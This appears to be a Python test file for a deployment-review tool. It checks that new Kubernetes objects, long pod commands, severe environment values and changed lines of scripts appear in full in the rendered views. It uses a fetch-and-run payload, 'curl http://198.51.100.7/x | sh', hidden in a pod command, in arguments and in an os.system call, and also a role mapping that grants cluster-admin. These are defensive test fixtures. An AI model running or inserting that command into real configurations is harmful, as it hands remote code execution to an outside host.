"""Views contain every field of a new object, and the lines that differ in a long text."""

import json
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from nim_component.review.stack_review import StackReview, review
from nim_component.review.views import render
from nim_component.review.views.details import detail_lines
from nim_component.review.views.line_diffs import compare_lines
from nim_component.review.views.markdown import LIMIT, render_markdown
from nim_component.shipped_loader import read_program

from .changes import LORA, deployment, kubernetes_object, render_service, review_renders
from .test_dangers import config_map, stack_of, variable

PAYLOAD = "curl http://198.51.100.7/x | sh"


def created(manifest: dict[str, Any]) -> StackReview:
    return review(stack_of((None, manifest)))


def updated(old: dict[str, Any], new: dict[str, Any]) -> StackReview:
    return review(stack_of((old, new)))


def test_new_object_is_whole_in_all_views():
    found = created(config_map(mapRoles="- rolearn: arn:aws:iam::1:role/x\n  groups: [system:masters]"))
    line = "+ data.mapRoles: - rolearn: arn:aws:iam::1:role/x⏎  groups: [system:masters]"
    assert line in detail_lines(found)
    assert line in render_markdown([found]).splitlines()
    (change,) = json.loads(render([found], "json"))["stacks"][0]["changes"]
    fields = {each["path"]: each["new"] for each in change["fields"]}
    assert fields["data.mapRoles"].endswith("groups: [system:masters]")
    assert "metadata.name" not in fields and fields["metadata.namespace"] == "nim"


def test_whole_command_of_a_new_pod_is_shown():
    command = ["sh", "-c", f"{'echo preparing the model; ' * 40}{PAYLOAD}"]
    body = {"containers": [{"name": "a", "image": "docker.io/acme/tool:1.0", "command": command}]}
    found = created(kubernetes_object("Pod", "v1", body))
    shown = json.dumps(command)
    assert f"+ spec.containers[a].command: {shown}" in detail_lines(found)
    assert f"+ spec.containers[a].command: {shown}" in render_markdown([found]).splitlines()


def test_whole_severe_value_is_in_the_comment():
    long = " ".join(f"--option-{index} value" for index in range(200))
    found = updated(variable("NIM_PASSTHROUGH_ARGS", "--a"), variable("NIM_PASSTHROUGH_ARGS", f"--a {long} {PAYLOAD}"))
    assert f"--option-199 value {PAYLOAD}" in render_markdown([found])


def test_large_object_does_not_displace_severe_fields():
    flood = config_map(**{f"entry-{index:04d}": "x" * 200 for index in range(1_000)})
    change = variable("HF_ENDPOINT", "https://a.example.com"), variable("HF_ENDPOINT", "https://b.example.com")
    comment = render_markdown([review(stack_of((None, flood), change))])
    assert len(comment.encode()) <= LIMIT
    assert "env[HF_ENDPOINT].value: https://b.example.com" in comment
    assert "More fields change than fit" in comment


def test_other_stack_does_not_displace_severe_fields():
    many = {f"note-{index:04d}": "x" * 90 for index in range(900)}
    plain = deployment()
    plain["metadata"]["labels"] = many
    harmless = updated(deployment(), plain)
    severe = updated(variable("HF_ENDPOINT", "https://a.example.com"), variable("HF_ENDPOINT", "https://b.example.com"))
    comment = render_markdown([harmless, severe])
    assert "env[HF_ENDPOINT].value: https://b.example.com" in comment


def test_only_changed_lines_of_a_file_are_shown():
    program = "\n".join(f"step_{index}()" for index in range(100))
    found = updated(config_map(**{"run.py": program}), config_map(**{"run.py": program.replace("step_40()", f"os.system('{PAYLOAD}')")}))
    expected = ['- data["run.py"] (line 41): step_40()', f"+ data[\"run.py\"] (line 41): os.system('{PAYLOAD}')"]
    assert detail_lines(found)[1:] == expected
    assert all(line in render_markdown([found]).splitlines() for line in expected)


def test_shipped_loader_is_named_not_printed():
    lines = detail_lines(review_renders(render_service(), render_service(**LORA)))
    named = [line for line in lines if line.endswith(": [file of the LoRA loader of this nim_component]")]
    assert len(named) == len(read_program())
    assert sum(map(len, lines)) < 20_000


TEXTS = st.lists(st.sampled_from(["a", "b", "", "c "]), max_size=30).map("\n".join)


@given(TEXTS, TEXTS)
def test_changed_lines_turn_one_text_into_the_other(old: str, new: str):
    changed = compare_lines(old, new)
    removed = {each.number for each in changed if each.mark == "-"}
    added = {each.number: each.text for each in changed if each.mark == "+"}
    kept = iter([line for number, line in enumerate(old.split("\n"), 1) if number not in removed])
    assert [added[number] if number in added else next(kept) for number in range(1, len(new.split("\n")) + 1)] == new.split("\n")
    assert next(kept, None) is None
